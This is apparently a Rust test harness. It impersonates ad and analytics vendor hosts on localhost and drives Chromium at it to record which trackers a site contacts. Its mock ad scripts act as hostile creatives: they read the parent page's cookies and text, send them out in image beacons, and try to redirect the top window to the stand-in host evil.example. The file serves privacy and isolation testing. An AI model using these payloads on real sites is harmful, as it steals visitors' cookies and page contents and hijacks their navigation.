//! The tracker theme park: one server on this machine that plays every vendor's host over https, and a Chromium that
//! takes it for them. What arrives is kept; what the browser only tried is in its network log.

use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use rocket::data::{Data, Outcome as DataOutcome};
use rocket::http::{ContentType, Method, Status};
use rocket::route::{Handler, Outcome, Route};
use rocket::shield::Shield;
use rocket::{Request, Response};

use super::app::free_port;
use super::chromium::{Chromium, Driver};
use super::folder::TestFolder;
use super::launch::{launched, listening};

/// One request that reached a vendor.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    pub host: String,
    pub path: String,
}

/// The vendors' side.
pub struct Park {
    hits: Arc<Mutex<Vec<Hit>>>,
    pub port: u16,
    folder: TestFolder,
    shutdown: rocket::Shutdown,
}

/// Hosts that vendors of the registry use; the park plays them all.
pub const VENDOR_HOSTS: [&str; 14] = [
    "googletagmanager.com",
    "google-analytics.com",
    "analytics.google.com",
    "doubleclick.net",
    "googlesyndication.com",
    "googleadservices.com",
    "histats.com",
    "statcounter.com",
    "rubiconproject.com",
    "clicksor.com",
    "tremorhub.com",
    "springserve.com",
    "2mdn.net",
    "evil.example",
];

#[derive(Clone)]
struct Playing(Arc<Mutex<Vec<Hit>>>);

#[rocket::async_trait]
impl Handler for Playing {
    async fn handle<'r>(&self, request: &'r Request<'_>, data: Data<'r>) -> Outcome<'r> {
        let host = request.host().map(|h| h.domain().as_str().to_owned()).unwrap_or_default();
        let path = request.uri().path().as_str().to_owned();
        let asked = request.uri().query().map(|query| query.as_str().to_owned()).unwrap_or_default();
        let cookie = request.cookies().get("khaos").is_some();
        drop(data);
        self.0.lock().unwrap().push(Hit { host: host.clone(), path: path.clone() });
        let (kind, body) = played(&host, &path, &asked, cookie);
        let origin = request.headers().get_one("Origin").unwrap_or("*").to_owned();
        let mut answer = Response::build();
        answer
            .status(Status::Ok)
            .header(kind)
            .raw_header("Access-Control-Allow-Origin", origin)
            .raw_header("Access-Control-Allow-Credentials", "true")
            .sized_body(body.len(), std::io::Cursor::new(body));
        if host == EXCHANGE {
            answer.raw_header("Set-Cookie", "khaos=1; Path=/; Secure; SameSite=None; Max-Age=86400");
        }
        let response = answer.finalize();
        let _: Option<DataOutcome<'_, String>> = None;
        Outcome::Success(response)
    }
}

/// Where an exchange is asked for an advertisement. It writes a cookie under its own name.
const EXCHANGE: &str = "fastlane.rubiconproject.com";

/// The answer of an exchange that was asked this, with its cookie or without: a script for a document, which says what it was
/// asked, what it reaches from there, and writes another.
fn exchanged(asked: &str, cookie: bool) -> Vec<u8> {
    let asked: Vec<&str> = asked.split('&').filter(|word| !word.starts_with("rand=")).collect();
    let script = "const said = (f) => { try { return String(f()) || 'nothing'; } catch (error) { return error.name; } };\
                  new Image().src = 'https://pixel.rubiconproject.com/beacon/' + ['top=' + said(() => top.document.cookie),\
                    'parent=' + said(() => parent.document.body.innerText), 'jar=' + said(() => document.cookie), 'cookie=COOKIE',\
                    ...ASKED].join('/');\
                  document.write('<scr' + 'ipt src=\"https://ads.rubiconproject.com/written.js\"></scr' + 'ipt>');\
                  try { top.location = 'https://evil.example/taken'; } catch {}";
    let script = script.replace("COOKIE", if cookie { "sent" } else { "none" });
    let script = script.replace("ASKED", &serde_json::json!(asked).to_string());
    let none = serde_json::json!({ "status": "no-ads" });
    let ad = serde_json::json!({ "status": "ok", "impression_id": "a-1", "size_id": "15", "type": "script", "script": script });
    serde_json::json!({ "status": "ok", "ads": [none, ad] }).to_string().into_bytes()
}

/// What a vendor's address answers, asked this with a cookie of its own or without: scripts that behave like the originals.
fn played(host: &str, path: &str, asked: &str, cookie: bool) -> (ContentType, Vec<u8>) {
    let js = |text: &str| (ContentType::JavaScript, text.as_bytes().to_vec());
    // A script of Google's writes onto the parent domain, and again whenever its cookie is gone.
    let ga = "const put = () => { document.cookie = '_ga=GA1.1.7.8; path=/; max-age=63072000'; document.cookie = '_ga_TEST=GS1; path=/; max-age=63072000'; };\
              put(); setInterval(put, 300);\
              fetch('https://region1.google-analytics.com/g/collect?v=2', { method: 'POST', mode: 'no-cors', keepalive: true });\
              window.parkedGa = JSON.stringify(Array.from(window.dataLayer, (a) => Array.from(a)));";
    let statcounter = "document.cookie = 'sc_is_visitor_unique=rx1.2; path=/; max-age=63072000'; localStorage.setItem('statcounter_x', '1');\
                       new Image().src = 'https://c.statcounter.com/t.php?sc_project=' + window.sc_project;";
    let histats = "document.cookie = 'HstCfa77=1; path=/; max-age=31536000'; new Image().src = 'https://s4.histats.com/stats/77.php';";
    // What a tag of advertisements does in the document it is loaded into, and what its creative tries in a frame below.
    let adsense = "const said = (f) => { try { return String(f()) || 'nothing'; } catch (error) { return error.name; } };\
                   const place = document.querySelector('ins.adsbygoogle');\
                   const told = { client: place.dataset.adClient, slot: place.dataset.adSlot, npa: window.adsbygoogle.requestNonPersonalizedAds,\
                     parent: said(() => parent.document.body.innerText), parentcookie: said(() => parent.document.cookie),\
                     parentstore: said(() => parent.localStorage.length), jar: said(() => document.cookie),\
                     referrer: said(() => document.referrer), rdp: said(() => place.dataset.restrictDataProcessing ?? '') };\
                   document.cookie = '__gads=1; path=/; max-age=34190000';\
                   new Image().src = 'https://googleads.g.doubleclick.net/pagead/ads/' + Object.entries(told).map(([k, v]) => k + '=' + encodeURIComponent(v)).join('/');\
                   const creative = document.createElement('iframe'); creative.src = 'https://evil.example/creative.html'; place.append(creative);\
                   try { top.location = 'https://evil.example/taken'; } catch {}";
    // The publisher's tag: what is set before the slot is shown counts for it.
    let gpt = "const said = (f) => { try { return String(f()) || 'nothing'; } catch (error) { return error.name; } };\
               const from = new URL(document.currentScript.src).host;\
               const told = {};\
               const service = { setPrivacySettings: (all) => Object.assign(told, all) };\
               Object.assign(window.googletag, {\
                 pubads: () => service, enableServices() {}, enums: { TagForAgeTreatment: { UNSPECIFIED: 0, CHILD: 1, TEEN: 2 } },\
                 setConfig: (all) => Object.assign(told, all.safeFrame),\
                 defineSlot: (path, size) => { Object.assign(told, { path, size }); return { addService() {} }; },\
                 display: (id) => {\
                   const words = ['from=' + from, 'unit=' + told.path.replaceAll('/', '_'), 'size=' + told.size.join('x'), 'npa=' + told.nonPersonalizedAds,\
                     'limited=' + told.limitedAds, 'rdp=' + told.restrictDataProcessing, 'age=' + told.tagForAgeTreatment, 'safe=' + told.forceSafeFrame,\
                     'parent=' + said(() => parent.document.body.innerText), 'jar=' + said(() => document.cookie)];\
                   new Image().src = 'https://ad.doubleclick.net/gampad/' + words.join('/');\
                   const creative = document.createElement('iframe'); creative.src = 'https://evil.example/creative.html';\
                   document.getElementById(id).append(creative);\
                   try { top.location = 'https://evil.example/taken'; } catch {}\
                 },\
               });\
               for (const run of window.googletag.cmd.splice(0)) run();";
    let creative = "<p>here<script>const said = (f) => { try { return String(f()) || 'nothing'; } catch (error) { return error.name; } };\
                    new Image().src = 'https://beacon.springserve.com/beacon/top=' + said(() => top.document.cookie) + '/jar=' + said(() => document.cookie);\
                    try { top.location = 'https://evil.example/taken'; } catch {}</script>";
    match (host, path) {
        ("pagead2.googlesyndication.com", "/pagead/js/adsbygoogle.js") => js(adsense),
        ("securepubads.g.doubleclick.net" | "pagead2.googlesyndication.com", "/tag/js/gpt.js") => js(gpt),
        (EXCHANGE, "/a/api/fastlane.json") => (ContentType::JSON, exchanged(asked, cookie)),
        ("evil.example", "/creative.html") => (ContentType::HTML, creative.as_bytes().to_vec()),
        ("www.googletagmanager.com", "/gtag/js") => js(ga),
        ("www.statcounter.com", "/counter/counter.js") => js(statcounter),
        ("s10.histats.com", "/js15_as.js") => js(histats),
        (_, path) if path.ends_with(".js") => js("window.parked = true;"),
        (_, path) if path.ends_with(".css") => (ContentType::CSS, b"body { color: red }".to_vec()),
        (_, path) if path.ends_with(".html") => (ContentType::HTML, b"<p>here".to_vec()),
        _ => (ContentType::Plain, b"here".to_vec()),
    }
}

impl Park {
    /// Opens the park.
    pub async fn open() -> Park {
        let folder = TestFolder::new();
        let port = free_port();
        let hits = Arc::new(Mutex::new(vec![]));
        let routes: Vec<Route> = [Method::Get, Method::Post, Method::Options, Method::Head, Method::Put]
            .into_iter()
            .map(|method| Route::new(method, "/<path..>", Playing(hits.clone())))
            .collect();
        // Vendors let themselves be framed, which Rocket's shield would forbid.
        let park = rocket::custom(listening(port, Some(folder.path())));
        let rocket = park.attach(Shield::new()).mount("/", routes);
        let shutdown = launched(rocket).await;
        Park { hits, port, folder, shutdown }
    }

    /// A browser that takes the park for every vendor, and knows nobody else. `more` are rules of its own that come first.
    pub async fn visitor(&self, driver: &Driver, site: &str, more: &str) -> (Chromium, PathBuf) {
        let log = self.folder.path().join(format!("net-{}.json", free_port()));
        let vendors: Vec<String> = VENDOR_HOSTS
            .iter()
            .map(|host| format!("MAP {host} 127.0.0.1:{p}, MAP *.{host} 127.0.0.1:{p}", p = self.port))
            .collect();
        let rules = format!("{more}{}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", vendors.join(", "));
        let args = [
            format!("--host-resolver-rules={rules}"),
            "--ignore-certificate-errors".to_owned(),
            format!("--log-net-log={}", log.display()),
        ];
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        (driver.with(site, &args).await, log)
    }

    /// What arrived since it was last asked, after a moment for what is on its way.
    pub async fn hits(&self) -> Vec<Hit> {
        tokio::time::sleep(Duration::from_millis(700)).await;
        std::mem::take(&mut *self.hits.lock().unwrap())
    }

    /// Waits until somebody of this host was asked.
    pub async fn hears(&self, host: &str) {
        for _ in 0..600 {
            if self.hits.lock().unwrap().iter().any(|hit| hit.host.ends_with(host)) {
                return;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("{host} was never asked; those were: {:?}", self.hits.lock().unwrap());
    }
}

impl Drop for Park {
    fn drop(&mut self) {
        self.shutdown.clone().notify();
    }
}

/// The vendors' hosts that a browser's network log names in what it did: names it looked up, addresses it asked. Ends
/// the browser, which is when the log is whole.
pub async fn names_in(browser: Chromium, log: PathBuf) -> Vec<String> {
    browser.client.clone().close().await.unwrap();
    for _ in 0..100 {
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        if text.trim_end().ends_with('}') && text.contains("\"events\"") {
            // The command line stands in the log's head, and with it the rules that name them all.
            let events = text.split_once("\"events\"").map_or("", |(_, events)| events);
            let done: String = events.lines().filter(|line| !line.contains("host-resolver-rules")).collect();
            return VENDOR_HOSTS
                .iter()
                .filter(|host| done.contains(*host))
                .map(|h| (*h).to_owned())
                .collect();
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("no network log at {}", log.display());
}
